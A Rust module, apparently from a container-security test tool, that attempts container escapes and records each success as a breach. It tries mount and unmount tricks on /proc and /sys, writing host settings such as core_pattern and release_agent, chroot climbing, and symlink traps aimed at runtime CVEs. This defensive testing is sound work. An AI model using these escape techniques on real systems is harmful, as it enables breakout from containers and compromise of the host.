//! Mounts, roots and control groups.

use std::ffi::CStr;
use std::fs::{self, OpenOptions};
use std::io;
use std::os::unix::fs::symlink;
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::Command;

use rustix::fs::{CWD, Mode, OFlags, openat};
use rustix::mount::{
    FsOpenFlags, MountFlags, OpenTreeFlags, UnmountFlags, fsopen, mount, mount_bind, mount_bind_recursive,
    mount_remount, open_tree, unmount,
};

use crate::raw;
use crate::report::Report;

/// What a container's root may read but never write: the host's own.
const SETTINGS: [&str; 6] = [
    "/proc/sys/kernel/core_pattern",
    "/proc/sys/kernel/modprobe",
    "/proc/sys/vm/panic_on_oom",
    "/proc/sys/fs/binfmt_misc/register",
    "/proc/sysrq-trigger",
    "/sys/kernel/uevent_helper",
];

/// What is hidden.
const MASKED: [&str; 4] = ["/proc/dynamic_debug/control", "/proc/kcore", "/proc/timer_list", "/proc/keys"];

/// One attack: what it has to reach, and how it is judged.
struct Attack<'a> {
    report: Report,
    decoy: &'a str,
    mark: &'a str,
    strong: bool,
}

impl Attack<'_> {
    /// With the default profile that it worked is a breach; in any case its effects are looked at.
    fn attempt(&mut self, what: &str, result: io::Result<()>) {
        let breach = result.is_ok() && !self.strong;
        self.report.tried(breach, || what.to_owned());
        self.effects(what);
    }

    /// What would make anything a breach.
    fn effects(&mut self, after: &str) {
        for path in SETTINGS {
            self.report.tried(opens_for_write(path), || format!("{path} can be written after {after}"));
        }
        for path in MASKED {
            let read = fs::read(path).is_ok_and(|bytes| !bytes.is_empty());
            self.report.tried(read && !self.strong, || format!("{path} can be read after {after}"));
        }
        let found = fs::read_to_string(self.decoy).is_ok_and(|text| text.contains(self.mark));
        self.report.tried(found, || format!("the host's file is there after {after}"));
    }
}

/// Tries everything that changes mounts or the root. With the default profile that any of it works is a breach; `strong`
/// (capabilities in the pod's user namespace, no filter) may arrange its own mounts, and only what it reaches counts.
pub(crate) fn attack(decoy: &str, mark: &str, strong: bool) -> Report {
    let mut attack = Attack { report: Report::default(), decoy, mark, strong };
    if strong {
        // A mount namespace owned by the pod's user namespace: the most that it can get.
        let _ = raw::unshare(libc::CLONE_NEWNS);
    }
    let none = None::<&CStr>;
    for path in ["/proc/sys", "/proc/sysrq-trigger"].into_iter().chain(MASKED) {
        attack.attempt(&format!("unmount of {path}"), unmount(path, UnmountFlags::DETACH).map_err(Into::into));
    }
    for path in ["/proc/sys", "/sys", "/sys/fs/cgroup"] {
        attack
            .attempt(&format!("bind remount of {path}"), mount_remount(path, MountFlags::BIND, "").map_err(Into::into));
        attack.attempt(&format!("remount of {path}"), mount_remount(path, MountFlags::empty(), "").map_err(Into::into));
    }
    let over = mount("none", "/proc/sys", "tmpfs", MountFlags::empty(), none);
    attack.attempt("tmpfs over /proc/sys", over.map_err(Into::into));
    let _ = fs::create_dir_all("/tmp/again");
    for kind in ["proc", "sysfs", "cgroup2", "devpts", "tmpfs", "overlay", "securityfs", "debugfs", "tracefs", "bpf"] {
        let result = mount("none", "/tmp/again", kind, MountFlags::empty(), none).map_err(Into::into);
        attack.attempt(&format!("mount of {kind}"), result);
        for name in
            ["sys/kernel/core_pattern", "kernel/uevent_helper", "sysrq-trigger", "cgroup.procs", "release_agent"]
        {
            let opened = OpenOptions::new().write(true).open(Path::new("/tmp/again").join(name)).is_ok();
            attack.report.tried(opened, || format!("{name} of a new {kind} can be written"));
        }
        let _ = unmount("/tmp/again", UnmountFlags::DETACH);
    }
    attack.attempt("bind of /", mount_bind("/", "/tmp/again").map_err(Into::into));
    attack.attempt("namespaces of its own", raw::unshare(libc::CLONE_NEWUSER | libc::CLONE_NEWNS));
    attack.attempt("the first process's namespaces", enter_first());
    let tree = open_tree(CWD, "/", OpenTreeFlags::OPEN_TREE_CLONE);
    attack.attempt("a copy of the root's mount", tree.map(drop).map_err(Into::into));
    let proc = fsopen("proc", FsOpenFlags::empty());
    attack.attempt("fsopen", proc.map(drop).map_err(Into::into));
    attack.attempt("pivot_root", rustix::process::pivot_root("/tmp", "/tmp").map_err(Into::into));
    climb(&mut attack);
    attack.report
}

/// Opened only, and only where a real file of the kernel's is: what the attacker mounted itself is its own.
fn opens_for_write(path: &str) -> bool {
    let Ok(file) = OpenOptions::new().write(true).open(path) else { return false };
    rustix::fs::fstatfs(&file).is_ok_and(|stat| matches!(stat.f_type, 0x9fa0 | 0x6265_6572))
}

fn enter_first() -> io::Result<()> {
    let namespace = openat(CWD, "/proc/1/ns/mnt", OFlags::RDONLY | OFlags::CLOEXEC, Mode::empty())?;
    let kind = rustix::thread::LinkNameSpaceType::Mount;
    Ok(rustix::thread::move_into_link_name_space(std::os::fd::AsFd::as_fd(&namespace), Some(kind))?)
}

/// The old way out of a chroot: a new root below, with the working directory left above it.
fn climb(attack: &mut Attack<'_>) {
    let _ = fs::create_dir_all("/tmp/below");
    let _ = rustix::process::chroot("/tmp/below");
    for _ in 0..64 {
        let _ = rustix::process::chdir("..");
    }
    let _ = rustix::process::chroot(".");
    attack.effects("climbing out of a root");
    // Beneath a container's root there may be a root that was there before: with nothing in it.
    let inside = Path::new("/bin/busybox").exists();
    for entry in fs::read_dir("/").into_iter().flatten().flatten().filter(|_| !inside) {
        let filled = fs::read_dir(entry.path()).map_or(true, |mut entries| entries.next().is_some());
        attack.report.tried(filled, || format!("{} was found above the root", entry.path().display()));
    }
}

/// Writes, makes and mounts wherever control groups are shown (CVE-2023-25809, CVE-2022-0492).
pub(crate) fn control_groups() -> Report {
    let mut report = Report::default();
    let mut directories = vec![std::path::PathBuf::from("/sys/fs/cgroup")];
    while let Some(directory) = directories.pop() {
        report.refused(&format!("{} got a child", directory.display()), fs::create_dir(directory.join("child")));
        for entry in fs::read_dir(&directory).into_iter().flatten().flatten() {
            let path = entry.path();
            match entry.file_type() {
                Ok(kind) if kind.is_dir() => directories.push(path),
                Ok(kind) if kind.is_file() => {
                    let opened = OpenOptions::new().write(true).open(&path);
                    report.refused(&format!("{} can be written", path.display()), opened);
                }
                _ => {}
            }
        }
        let remounted = mount_remount(&directory, MountFlags::BIND, "");
        report.refused(&format!("{} can be remounted", directory.display()), remounted);
    }
    report
}

/// As a container's first process: a mount namespace of its own, with traps over everything that a runtime might write on
/// its way in (CVE-2025-52881, CVE-2019-19921); then the program, in it.
pub(crate) fn cover(program: &[&str]) -> io::Result<Report> {
    let report = Report::default();
    raw::unshare(libc::CLONE_NEWNS)?;
    let none = None::<&CStr>;
    fs::create_dir_all("/tmp/real")?;
    mount_bind_recursive("/proc", "/tmp/real")?;
    mount("none", "/proc", "tmpfs", MountFlags::empty(), none)?;
    for directory in ["/proc/self/attr/apparmor", "/proc/thread-self/attr/apparmor", "/proc/1", "/proc/self/task/1"] {
        fs::create_dir_all(directory)?;
    }
    let traps = ["oom_score_adj", "attr/exec", "attr/current", "attr/apparmor/exec", "uid_map", "gid_map", "setgroups"];
    for trap in traps {
        // Whatever is written on the way in would go to the host's setting.
        symlink("/tmp/real/sys/kernel/core_pattern", Path::new("/proc/self").join(trap))?;
    }
    symlink("/tmp/real/self/fd", "/proc/self/fd")?;
    mount("none", "/dev", "tmpfs", MountFlags::empty(), none)?;
    symlink("/tmp/real/sys/kernel/core_pattern", "/dev/null")?;
    symlink("/tmp/real/1/root", "/dev/pts")?;
    symlink("/tmp/real/sysrq-trigger", "/dev/console")?;
    report.seen("traps");
    let first = program.first().copied().unwrap_or_default();
    Err(Command::new(first).args(&program[1..]).exec()).inspect_err(|_| report.seen("the program did not run"))
}
